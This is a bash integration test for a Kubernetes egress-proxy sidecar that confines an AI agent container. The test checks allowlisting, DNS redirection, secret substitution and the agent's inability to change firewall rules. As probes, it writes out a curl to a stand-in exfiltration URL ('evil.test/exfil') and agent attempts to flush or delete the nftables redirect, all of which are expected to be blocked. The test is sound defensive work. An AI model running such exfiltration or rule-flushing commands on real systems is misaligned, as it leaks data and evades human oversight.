#!/bin/bash
# Issue 20 part 2: airlock as a Kubernetes sidecar, with real podman. The pod of
# container/k8s/agent-pod.yaml (init container installing the nftables redirect, airlock as a
# native sidecar, the agent) is built from the manifest's own pieces by k8s_pod.py (Podman
# 4.3's `kube play` mishandles init containers; see that file), with the ConfigMaps of
# container/k8s/airlock-config.yaml. The test changes only what a cluster operator would: the
# images (the airlock image built here, with the test CA as its upstream bundle; the agent is a
# FROM-scratch image holding curl, getent, dash, kdig and nft with their libraries), the
# allowlist, UPSTREAM_DNS, the Secrets, and one argument (--allow-upstream-cidr: the upstream
# lives on a private address).
#
# Hermetic like test_container.sh: namespaces of the test's own, a private podman storage and
# configuration. Upstreams: nginx (test CA) and dnsmasq (*.test -> the gateway) on the pod
# network's gateway address. Exit 77 (with the reason) when podman cannot run containers.
. "$(dirname "$0")/lib.sh"

if [ -z "${AIRLOCK_IN_NETNS:-}" ]; then
    [ "$(id -u)" = 0 ] || t_skip root "needs root (podman networks, namespaces)"
    for tool in podman runc nft nsenter readelf strip ldd kdig curl dash getent nginx dnsmasq; do
        command -v "$tool" >/dev/null ||
            t_skip package "$tool is not installed (.ci/install-deps test installs it)"
    done
    /usr/bin/python3 -c 'import yaml' 2>/dev/null ||
        t_skip package "python3-yaml is not installed (apt-get install python3-yaml)"
fi
t_enter_netns "$@"
T_START=$(date +%s%N)

K8S=$AIRLOCK_SRC/container/k8s
KUBELET=$AIRLOCK_SRC/tests/integration/k8s_pod.py
BUILD_IMAGE=$AIRLOCK_SRC/container/build-image.sh
MANIFESTS=("$K8S/agent-pod.yaml" "$K8S/airlock-config.yaml")
NET=alk-net

# ---- a private podman (as test_container.sh) ------------------------------------------------
t_private_podman "$T_DIR" || { echo "FAIL: a private podman"; exit 1; }
t_overlay_var || { echo "FAIL: cannot overlay /var/lib and /var/cache"; exit 1; }

k_cleanup() {
    [ -f "$T_DIR/overrides.json" ] &&
        "$PY" "$KUBELET" down "$T_DIR/overrides.json" "${MANIFESTS[@]}" >/dev/null 2>&1
    podman pod rm -af -t 0 >/dev/null 2>&1
    podman rm -af -t 0 >/dev/null 2>&1
    podman network rm -f "$NET" >/dev/null 2>&1
    podman rmi -af >/dev/null 2>&1
    umount -l /var/lib /var/cache 2>/dev/null
    grep -o " $T_DIR/[^ ]*" /proc/self/mounts | sort -r | xargs -r -n1 umount -l 2>/dev/null
    echo "# test_k8s ran for $((($(date +%s%N) - T_START) / 1000000)) ms"
    t_cleanup
}
trap k_cleanup EXIT

# ---- the manifests agree with themselves ------------------------------------------------------
out=$("$PY" - "$K8S" <<'PY'
import sys, yaml
k8s = sys.argv[1]
docs = {}
for f in ("agent-pod.yaml", "airlock-config.yaml", "networkpolicy.yaml"):
    for d in yaml.safe_load_all(open(f"{k8s}/{f}")):
        docs[(d["kind"], d["metadata"]["name"])] = d
pod = docs[("Pod", "agent")]["spec"]
ctrs = {c["name"]: c for c in pod["initContainers"] + pod["containers"]}
air, init, agent = ctrs["airlock"], ctrs["airlock-netinit"], ctrs["agent"]
rules = docs[("ConfigMap", "airlock-netinit")]["data"]["redirect.nft"]
uid = air["securityContext"]["runAsUser"]
args = air["args"]
dns = args[args.index("--listen-dns") + 1]
tp = args[args.index("--listen-transparent") + 1]
print("uid", uid, "in rules:", rules.count(f"meta skuid {uid} "))
print("dns", dns, "redirected:", f"redirect to :{dns.split(':')[1]}" in rules)
print("transparent", tp, "redirected:", f"redirect to :{tp.split(':')[1]}" in rules)
print("same image:", init["image"] == air["image"])
print("agent uid differs:", agent["securityContext"]["runAsUser"] != uid)
print("agent caps:", agent["securityContext"]["capabilities"], "init caps:",
      init["securityContext"]["capabilities"])
print("dns:", pod["dnsPolicy"], pod["dnsConfig"]["nameservers"])
np = docs[("NetworkPolicy", "airlock-agent-egress")]["spec"]
labels = docs[("Pod", "agent")]["metadata"]["labels"]
print("policy selects the pod:", all(labels.get(k) == v
                                     for k, v in np["podSelector"]["matchLabels"].items()))
print("policy types:", sorted(np["policyTypes"]), "ingress rules:", len(np["ingress"]))
ports = sorted({(p["protocol"], p["port"]) for r in np["egress"] for p in r["ports"]})
print("egress ports:", ports)
print("every egress rule names ports:", all(r.get("ports") for r in np["egress"]))
PY
)
t_eq "the manifests agree (uid, listeners, image, DNS, NetworkPolicy)" "uid 17000 in rules: 2
dns 127.0.0.1:15053 redirected: True
transparent 127.0.0.1:15001 redirected: True
same image: True
agent uid differs: True
agent caps: {'drop': ['ALL']} init caps: {'drop': ['ALL'], 'add': ['NET_ADMIN']}
dns: None ['127.0.0.1']
policy selects the pod: True
policy types: ['Egress', 'Ingress'] ingress rules: 0
egress ports: [('TCP', 53), ('TCP', 80), ('TCP', 443), ('UDP', 53)]
every egress rule names ports: True" "$out"

# ---- images ---------------------------------------------------------------------------------
t_upstream_ca
if ! readelf -lW "$AIRLOCK" 2>/dev/null | grep -q 'program interpreter'; then
    STATIC=$AIRLOCK
elif [ -n "${AIRLOCK_STATIC_BINARY:-}" ]; then
    STATIC=$AIRLOCK_STATIC_BINARY
else
    STATIC_DIR=${AIRLOCK_BUILD:-$AIRLOCK_SRC/build}/container-static
    echo "# building a static airlock in $STATIC_DIR"
    "$BUILD_IMAGE" --build-dir "$STATIC_DIR" > /dev/null 2> "$T_DIR/build-image.log" || {
        echo "FAIL - the static build:"; tail -n 30 "$T_DIR/build-image.log"; exit 1; }
    STATIC=$STATIC_DIR/airlock
fi
# the airlock image, with the test CA as the bundle upstreams are verified against
IMG=$("$BUILD_IMAGE" --binary "$STATIC" --name localhost/alk-proxy --ca-bundle "$T_DIR/upca.pem" \
    2>> "$T_DIR/build-image.log")
rc=$?
if [ $rc -ne 0 ] || [ -z "$IMG" ]; then
    echo "FAIL - build-image.sh (rc $rc):"; tail -n 30 "$T_DIR/build-image.log"
    exit 1
fi
if ! out=$(podman run --rm --network none --entrypoint /usr/sbin/nft "$IMG" --version 2>&1); then
    t_skip podman "podman cannot run containers here: $(echo "$out" | tail -n 3 | tr '\n' ' ')"
fi
t_contains "the airlock image runs its nft" "$out" "nftables v"
out=$(podman run --rm --network none --entrypoint /airlock "$IMG" --version 2>&1)
t_eq "the airlock image runs airlock" "airlock" "${out%% *}"

mkdir -p "$T_DIR/client/root/tmp"
for bin in /usr/bin/curl /usr/bin/getent /bin/dash /bin/sleep /usr/bin/kdig /usr/sbin/nft; do
    for f in "$bin" $(ldd "$bin" | awk '/=> \// { print $3 } /^\t\// { print $1 }'); do
        mkdir -p "$T_DIR/client/root$(dirname "$f")"
        cp -L "$f" "$T_DIR/client/root$f"
    done
done
chmod 1777 "$T_DIR/client/root/tmp"
printf 'FROM scratch\nCOPY root/ /\n' > "$T_DIR/client/Containerfile"
podman build -q --pull=never -t localhost/alk-agent:latest -f "$T_DIR/client/Containerfile" \
    "$T_DIR/client" > "$T_DIR/client.log" 2>&1 || { cat "$T_DIR/client.log"; exit 1; }
echo "# images ready after $((($(date +%s%N) - T_START) / 1000000)) ms"

# ---- the pod network and the upstreams on its gateway ----------------------------------------
podman network create --disable-dns "$NET" > /dev/null || { echo "FAIL - network create"; exit 1; }
GW=$(podman network inspect "$NET" --format '{{range .Subnets}}{{.Gateway}}{{end}}')
t_check "pod network gateway $GW" test -n "$GW"
sysctl -qw net.ipv4.ip_nonlocal_bind=1
dnsmasq --keep-in-foreground --no-resolv --no-hosts --conf-file=/dev/null \
    --listen-address="$GW" --bind-dynamic --port=53 --address=/test/"$GW" \
    --log-facility=- -q > "$T_DIR/dnsmasq.log" 2>&1 &
T_PIDS+=($!)
t_upstream_cert "DNS:nginx.test" "$T_DIR/up"
mkdir -p "$T_DIR/www"
echo "hello from upstream" > "$T_DIR/www/index.html"
chmod -R a+rX "$T_DIR/www" "$T_DIR"/up.* "$T_DIR/upca.pem"
t_start_nginx "
    }
    server {
        listen $GW:80;
        listen $GW:443 ssl;
        listen $GW:8080;
        ssl_certificate $T_DIR/up.pem; ssl_certificate_key $T_DIR/up.key;
        access_log $T_DIR/nginx/gw.log;
        root $T_DIR/www;
        location /auth { if (\$http_authorization = \"Bearer real-secret-1\") { return 200 \"auth=real\\n\"; } return 200 \"auth=\$http_authorization\\n\"; }
" || exit 1

# ---- does `podman kube play` handle init containers yet? (K8S_PROBE_KUBE_PLAY=1) ------------
# A pod of the manifest's init container (its image replaced) and a sleeping container, with
# the ConfigMap it mounts. Podman 4.3 removes a run-once init container right after starting it
# and fails when it is still running: a race that nft mostly loses. Native sidecars it does
# not know at all, so the pod below is built by k8s_pod.py either way. Only reported, and only
# when asked: it checks nothing of airlock's, and a failing play can hang until its 120 s
# timeout (it took from about 22 s to all 120 s in the runs measured before it became optional).
if [ "${K8S_PROBE_KUBE_PLAY:-0}" = 1 ]; then
    "$PY" - "$K8S" "$IMG" > "$T_DIR/kubeplay.yaml" <<'PY'
import sys, yaml
k8s, img = sys.argv[1:3]
pod = next(d for d in yaml.safe_load_all(open(f"{k8s}/agent-pod.yaml")) if d["kind"] == "Pod")
cms = [d for d in yaml.safe_load_all(open(f"{k8s}/airlock-config.yaml"))
       if d["metadata"]["name"] == "airlock-netinit"]
init = dict(pod["spec"]["initContainers"][0], image=img)
vols = [v for v in pod["spec"]["volumes"] if v["name"] in
        {m["name"] for m in init.get("volumeMounts", [])}]
probe = {"apiVersion": "v1", "kind": "Pod", "metadata": {"name": "kubeplay-probe"},
         "spec": {"initContainers": [init], "volumes": vols,
                  "containers": [{"name": "main", "image": "localhost/alk-agent:latest",
                                  "command": ["sleep", "60"]}]}}
print(yaml.safe_dump_all(cms + [probe]))
PY
    t0=$(date +%s%N)
    if out=$(timeout 120 podman kube play --network "$NET" "$T_DIR/kubeplay.yaml" 2>&1); then
        echo "# podman kube play ran the init container this time (it does not fail every time)"
    else
        echo "# podman kube play still fails on init containers:" \
            "$(echo "$out" | tail -n 1 | cut -c1-160)"
    fi
    echo "# (kube play: $((($(date +%s%N) - t0) / 1000000)) ms)"
    podman pod rm -f -t 0 kubeplay-probe > /dev/null 2>&1 ||
        podman pod rm -f -t 0 kubeplay-probe > /dev/null 2>&1   # a failed play may need two
fi

# ---- configuration: what an operator puts into the ConfigMaps and Secrets -------------------
"$AIRLOCK" ca init --confdir "$T_DIR/confdir" > /dev/null || { echo "FAIL - ca init"; exit 1; }
cat > "$T_DIR/allow.yaml" <<'YAML'
domains: ["nginx.test"]
YAML
cat > "$T_DIR/repl.json" <<'JSON'
{"surrogate-token-1": {"value": "real-secret-1", "scopes": ["nginx.test"],
                       "headers": ["Authorization"]}}
JSON
cat > "$T_DIR/overrides.json" <<JSON
{"dir": "$T_DIR/pod", "network": "$NET",
 "images": {"localhost/airlock-proxy:latest": "$IMG",
            "registry.example.com/agent:latest": "localhost/alk-agent:latest"},
 "configmaps": {"airlock-policy": {"allowlist.yaml": "@$T_DIR/allow.yaml"},
                "airlock-settings": {"upstream-dns": "$GW"}},
 "secrets": {"airlock-ca": {"mitmproxy-ca.pem": "@$T_DIR/confdir/mitmproxy-ca.pem",
                            "mitmproxy-ca-cert.pem": "@$T_DIR/confdir/mitmproxy-ca-cert.pem"},
             "airlock-replacements": {"replacements.json": "@$T_DIR/repl.json"}},
 "append_args": {"airlock": ["--allow-upstream-cidr", "$GW/32"]}}
JSON

# ---- the pod ----------------------------------------------------------------------------------
t0=$(date +%s%N)
POD=$("$PY" "$KUBELET" up "$T_DIR/overrides.json" "${MANIFESTS[@]}" 2> "$T_DIR/kubelet.err")
rc=$?
sed 's/^/# /' "$T_DIR/kubelet.err"
t_eq "the pod starts (init container, sidecar startupProbe, agent)" 0 "$rc"
[ $rc -eq 0 ] || exit 1
echo "# pod up in $((($(date +%s%N) - t0) / 1000000)) ms"
INFRA_PID=$(echo "$POD" | "$PY" -c 'import json,sys; print(json.load(sys.stdin)["infra_pid"])')
AGENT=agent-agent
AIR=agent-airlock
NETLOG=$T_DIR/pod/volumes/log/network-sandbox.log
POD_IP=$(podman inspect "$AGENT" \
    --format "{{(index .NetworkSettings.Networks \"$NET\").IPAddress}}" 2>/dev/null)
[ -n "$POD_IP" ] || POD_IP=$(nsenter -t "$INFRA_PID" -n ip -4 -o addr show scope global |
    awk '{ sub("/.*", "", $4); print $4; exit }')
t_check "pod IP $POD_IP" test -n "$POD_IP"
t_eq "the init container is gone, airlock and the agent run" "agent-agent running
agent-airlock running" "$(podman ps -a --filter pod=agent --format '{{.Names}}' | grep -v infra |
    sort | while read -r c; do echo "$c $(podman inspect -f '{{.State.Status}}' "$c")"; done)"
t_eq "airlock runs as 17000, the agent as 1000" "17000:17000 1000:1000" \
    "$(podman inspect -f '{{.Config.User}}' "$AIR" "$AGENT" | tr '\n' ' ' | sed 's/ $//')"
t_eq "the agent has no capabilities" "0000000000000000" \
    "$(podman exec "$AGENT" dash -c \
        'while read -r k v; do [ "$k" = CapEff: ] && echo "$v"; done < /proc/self/status')"

ax() { podman exec "$AGENT" "$@" 2>&1; }

# ---- through airlock --------------------------------------------------------------------------
out=$(ax curl -s -m 10 -w ' %{http_code}' https://nginx.test/)
t_eq "allowed HTTPS host: 200 through airlock (the agent trusts the CA from the Secret)" \
    "hello from upstream
 200" "$out"
out=$(ax curl -s -m 10 -w ' %{http_code}' http://nginx.test/)
t_eq "allowed plain HTTP" "hello from upstream
 200" "$out"
out=$(ax curl -s -m 10 -H 'Authorization: Bearer surrogate-token-1' https://nginx.test/auth)
t_eq "the replacements Secret reaches airlock (the upstream gets the real secret)" \
    "auth=real" "$out"
out=$(ax curl -s -m 10 -w ' %{http_code}' 'https://evil.test/exfil?k=v')
t_contains "blocked host gets the 403 JSON" "$out" \
    '"error": "blocked_by_network_allowlist", "host": "evil.test", "path": "/exfil?k=v"'
t_contains "blocked is a 403" "$out" " 403"
out=$(ax curl -s -m 10 -w ' %{http_code}' "http://$GW/")
t_contains "plain HTTP to an IP literal on port 80: redirected, 403 JSON" "$out" \
    "\"error\": \"blocked_by_network_allowlist\", \"host\": \"$GW\""

# ---- everything else fails fast -------------------------------------------------------------
for url in "https://$GW/" "http://$GW:8080/" "https://198.51.100.1/" "http://198.51.100.1:8080/" \
    "http://198.51.100.1:22/" "https://nginx.test:8443/"; do
    t0=$(date +%s%N)
    out=$(podman exec "$AGENT" curl -s -m 30 -o /dev/null -w '%{http_code}' "$url" 2>&1)
    rc=$?
    ms=$((($(date +%s%N) - t0) / 1000000))
    if [ "$out" = "000" ] && [ "$rc" -ne 0 ] && [ "$rc" -ne 28 ]; then
        t_ok "direct $url fails at once (curl exit $rc; $ms ms incl. podman exec)"
    else
        t_fail "direct $url: [$out] curl exit $rc after $ms ms"
    fi
done
# UDP 443 (QUIC): rejected, so the client learns at once (a drop would cost it the 20 s)
t0=$(date +%s%N)
out=$(ax kdig @198.51.100.1 -p 443 +notcp +retry=0 +timeout=20 probe.example)
rc=$?
ms=$((($(date +%s%N) - t0) / 1000000))
if [ "$rc" -ne 0 ] && [ "$ms" -lt 10000 ]; then
    t_ok "UDP to 198.51.100.1:443 (QUIC) fails at once (kdig exit $rc, $ms ms incl. podman exec)"
else
    t_fail "UDP 443: kdig exit $rc after $ms ms: $out"
fi
out=$(ax curl -s -k -m 10 -w ' %{http_code}' "https://$GW/")
t_contains "HTTPS to an IP literal, certificate check off: redirected, 403 JSON" "$out" \
    "\"error\": \"blocked_by_network_allowlist\", \"host\": \"$GW\""
out=$(ax curl -s -m 10 -o /dev/null -w '%{http_code} %{remote_ip}' http://whatever.example/)
t_eq "a name connects to 127.0.0.1, redirected to airlock (403 for an unlisted host)" \
    "403 127.0.0.1" "$out"

# ---- DNS ----------------------------------------------------------------------------------------
# shellcheck disable=SC2016 # $l is for the agent's shell
t_contains "the pod's resolv.conf names 127.0.0.1" \
    "$(ax dash -c 'while read -r l; do echo "$l"; done < /etc/resolv.conf')" "nameserver 127.0.0.1"
out=$(ax getent ahostsv4 some-random-name.example.org)
t_contains "DNS: any name answers airlock's address (127.0.0.1)" "$out" "127.0.0.1"
out=$(ax kdig +short +retry=0 +timeout=5 @127.0.0.1 nginx.test A)
t_eq "DNS to 127.0.0.1:53 reaches airlock" "127.0.0.1" "$out"
out=$(ax kdig +short +retry=0 +timeout=5 @203.0.113.53 nginx.test A)
t_eq "DNS to any other server is answered by airlock too (redirected)" "127.0.0.1" "$out"
out=$(ax kdig +short +tcp +retry=0 +timeout=5 @203.0.113.53 nginx.test A)
t_eq "DNS over TCP likewise" "127.0.0.1" "$out"

# ---- the agent cannot undo the redirect ----------------------------------------------------------
out=$(ax nft flush ruleset)
rc=$?
t_check "the agent's 'nft flush ruleset' fails (exit $rc: ${out%%$'\n'*})" test "$rc" -ne 0
t_contains "... for lack of permission" "$out" "Operation not permitted"
out=$(podman exec --user 0 "$AGENT" nft flush ruleset 2>&1)
rc=$?
t_check "even uid 0 in the agent container cannot (no NET_ADMIN; exit $rc)" test "$rc" -ne 0
out=$(ax nft delete table inet airlock)
t_check "nor delete airlock's table" test $? -ne 0
RULES=$(nsenter -t "$INFRA_PID" -n nft list table inet airlock 2>&1)
t_contains "the redirect is still in place" "$RULES" "redirect to :15001"
out=$(ax curl -s -m 10 -o /dev/null -w '%{http_code}' https://evil.test/)
t_eq "and still enforced" "403" "$out"

# ---- airlock's own traffic leaves the pod as it is --------------------------------------------
# shellcheck disable=SC2016 # expanded by until_ok's eval
if until_ok 'grep -q "^$POD_IP .*\"GET / HTTP" "$T_DIR/nginx/gw.log"' 10; then
    t_ok "the upstream saw airlock's request from the pod's address $POD_IP"
else
    t_fail "no request from $POD_IP in nginx's log: $(tail -3 "$T_DIR/nginx/gw.log")"
fi
# shellcheck disable=SC2016 # awk's own $ fields
pk=$(printf '%s\n' "$RULES" | awk '/meta skuid 17000 counter packets [0-9]+ bytes [0-9]+ return/ {
    for (i = 1; i <= NF; i++) if ($i == "packets") print $(i + 1) }')
if [ -n "$pk" ] && [ "$pk" -gt 0 ]; then
    t_ok "airlock's packets ($pk) were exempted by uid before any redirect"
else
    t_fail "the uid exemption matched nothing: $RULES"
fi
if grep -q "query\[A\] nginx.test from $POD_IP\$" "$T_DIR/dnsmasq.log"; then
    t_ok "airlock's DNS queries reached UPSTREAM_DNS from the pod's address"
else
    t_fail "no query from $POD_IP in dnsmasq's log: $(tail -3 "$T_DIR/dnsmasq.log")"
fi
uplines=$(grep -c '"GET / HTTP' "$T_DIR/nginx/gw.log")
t_eq "one upstream request per allowed client request (no loop through airlock)" 2 "$uplines"
t_eq "nothing else reached the upstream host (2 x GET /, 1 x /auth)" 3 \
    "$(wc -l < "$T_DIR/nginx/gw.log")"
t_contains "the UDP 443 packet was counted by the reject rule" "$RULES" \
    "meta l4proto udp counter packets 1 "

# ---- the network log (an emptyDir) ------------------------------------------------------------
k_logged() {
    local kl_line=$2
    # shellcheck disable=SC2016 # expanded by until_ok's eval
    if until_ok 'grep -qxF -- "$kl_line" "$NETLOG"' 20; then t_ok "$1"
    else t_fail "$1: no line [$kl_line] in $(tail -5 "$NETLOG" 2>&1)"; fi
}
k_logged "log: allowed HTTPS" 'allowed GET https://nginx.test/ -> 200'
k_logged "log: allowed HTTP" 'allowed GET http://nginx.test/ -> 200'
k_logged "log: blocked" 'BLOCKED GET https://evil.test/exfil?k=v -> 403'
k_logged "log: DNS" 'DNS A some-random-name.example.org -> 127.0.0.1'
if grep -q real-secret "$NETLOG"; then t_fail "the real secret is in the log"
else t_ok "the real secret is not in the log"; fi
if grep -q 198.51.100.1 "$NETLOG"; then t_fail "a non-web port to an IP reached airlock"
else t_ok "connections to other ports never reached airlock"; fi

# ---- the agent sees the CA certificate, not its key --------------------------------------------
t_eq "the agent's CA mount holds the certificate only" "/etc/airlock-ca/airlock-ca.crt" \
    "$(ax dash -c 'echo /etc/airlock-ca/*')"
t_eq "the CA key is not in the agent's file system" "absent" \
    "$(ax dash -c '[ -e /etc/airlock/ca/mitmproxy-ca.pem ] && echo present || echo absent')"

# ---- teardown ---------------------------------------------------------------------------------
"$PY" "$KUBELET" down "$T_DIR/overrides.json" "${MANIFESTS[@]}" 2>/dev/null
t_eq "the pod is gone" "1 " \
    "$(podman pod exists agent; echo "$? $(podman ps -a --format '{{.Names}}' | grep '^agent-')")"
t_done
